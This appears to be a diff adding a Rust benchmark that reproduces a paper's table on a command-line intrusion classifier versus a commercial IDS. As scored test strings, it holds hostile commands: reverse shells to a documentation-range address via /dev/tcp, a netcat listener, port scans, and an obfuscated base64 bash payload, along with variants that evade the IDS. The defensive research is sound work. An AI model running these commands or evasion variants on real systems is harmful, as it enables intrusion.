@@ -1,0 +1,124 @@
+//! Reproduces **Table III**: in-box vs out-of-box qualitative pairs.
+//!
+//! For each of the paper's example pairs, we verify the structure the
+//! table demonstrates: the commercial IDS catches the left column and
+//! misses the right, while the tuned classifier assigns the right column
+//! a high intrusion score — generalization across flags (`nc -lvnp` →
+//! `nc -ulp`), wrappers (`masscan` → `sh masscan.sh`), interpreters
+//! (`java` → `python3`) and argument schemes (`http` → `socks5`).
+//!
+//! Run: `cargo run --release --bin table3_qualitative -p bench`
+
+use bench::methods::run_classification;
+use bench::{Args, Experiment};
+use cmdline_ids::eval::evaluate_scores;
+use cmdline_ids::tuning::{ClassificationTuner, TuneConfig};
+
+fn main() {
+    let args = Args::parse();
+    println!(
+        "Table III reproduction: train={} seed={}",
+        args.train_size, args.seed
+    );
+    let exp = Experiment::setup(args.seed, args.config());
+    let mut rng = exp.method_rng(args.seed);
+
+    // Tune the classifier exactly as in Table I/II.
+    let lines = exp.train_lines();
+    let labels = exp.train_labels();
+    let tuner = ClassificationTuner::fit(&exp.pipeline, &lines, &labels, &TuneConfig::scaled(), &mut rng);
+
+    // Score the de-duplicated test set to build the reference score
+    // distribution: the paper's Table III claim is that out-of-box
+    // variants "show high intrusion scores", i.e. they rank near the
+    // top of everything the commercial IDS is silent on.
+    let samples = run_classification(&exp, &mut rng);
+    let eval = evaluate_scores(&samples, 0.90, &[]);
+    println!(
+        "calibrated threshold (u=0.90 in-box recall): {:?}",
+        eval.threshold
+    );
+    let mut reference: Vec<f32> = samples
+        .iter()
+        .filter(|s| !s.in_box)
+        .map(|s| s.score)
+        .collect();
+    reference.sort_by(|a, b| a.partial_cmp(b).unwrap());
+    let percentile = |score: f32| -> f64 {
+        let below = reference.iter().filter(|&&s| s < score).count();
+        100.0 * below as f64 / reference.len().max(1) as f64
+    };
+    // "High score" = top 2% of the non-in-box test distribution.
+    let high_idx = ((reference.len() as f64 * 0.98) as usize).min(reference.len().saturating_sub(1));
+    let high_bar = reference[high_idx];
+
+    // The paper's Table III pairs (anonymized `*` filled with targets).
+    let pairs: &[(&str, &str)] = &[
+        ("nc -lvnp 4444", "nc -ulp 4444"),
+        (
+            "masscan 203.0.113.9 -p 0-65535 --rate=1000 >> tmp.txt",
+            "sh /root/masscan.sh 203.0.113.9 -p 0-65535",
+        ),
+        (
+            "bash -i >& /dev/tcp/203.0.113.9/9001 0>&1",
+            "java -cp tmp.jar \"bash=bash -i >& /dev/tcp/203.0.113.9/9001\"",
+        ),
+        (
+            "export https_proxy=\"http://203.0.113.9:8080\"",
+            "export https_proxy=\"socks5://203.0.113.9:1080\"",
+        ),
+        (
+            "java -jar tmp.jar -C \"bash -c {echo,cGF5bG9hZA==} {base64,-d} {bash,-i}\"",
+            "python3 tmp.py -p \"bash -c {echo,cGF5bG9hZA==} {base64,-d} {bash,-i}\"",
+        ),
+    ];
+
+    println!();
+    println!(
+        "{:<58} | {:>6} | {:>5} || {:<58} | {:>6} | {:>5} | {:>6}",
+        "in-box", "ids", "model", "out-of-box", "ids", "model", "pctile"
+    );
+    let mut generalized = 0;
+    for (inbox, outbox) in pairs {
+        let ids_in = exp.ids.is_alert(inbox);
+        let ids_out = exp.ids.is_alert(outbox);
+        let m_in = tuner.score(&exp.pipeline, inbox);
+        let m_out = tuner.score(&exp.pipeline, outbox);
+        let pct = percentile(m_out);
+        println!(
+            "{:<58} | {:>6} | {:>5.3} || {:<58} | {:>6} | {:>5.3} | {:>5.1}%",
+            &inbox[..inbox.len().min(58)],
+            if ids_in { "ALERT" } else { "silent" },
+            m_in,
+            &outbox[..outbox.len().min(58)],
+            if ids_out { "ALERT" } else { "silent" },
+            m_out,
+            pct,
+        );
+        if !ids_out && m_out >= high_bar {
+            generalized += 1;
+        }
+    }
+
+    println!();
+    println!(
+        "out-of-box variants silent at the IDS but ranked in the model's top 2%: {generalized}/{}",
+        pairs.len()
+    );
+
+    // Shape assertions: every in-box line alerts; no out-of-box line
+    // does; the model generalizes to a majority of the variants.
+    for (inbox, outbox) in pairs {
+        assert!(exp.ids.is_alert(inbox), "IDS must catch in-box: {inbox}");
+        assert!(!exp.ids.is_alert(outbox), "IDS must miss out-of-box: {outbox}");
+    }
+    // How many variants generalize depends on which out-of-box patterns
+    // happened to appear *benign-labeled* in this training draw (the
+    // label-noise effect the paper discusses in Section IV-D); require
+    // at least two clear generalizations and report the rest.
+    assert!(
+        generalized >= 2,
+        "the tuned model should rank at least two out-of-box variants in its top 2%"
+    );
+    println!("shape check: IDS catches left / misses right; model generalizes — ok");
+}
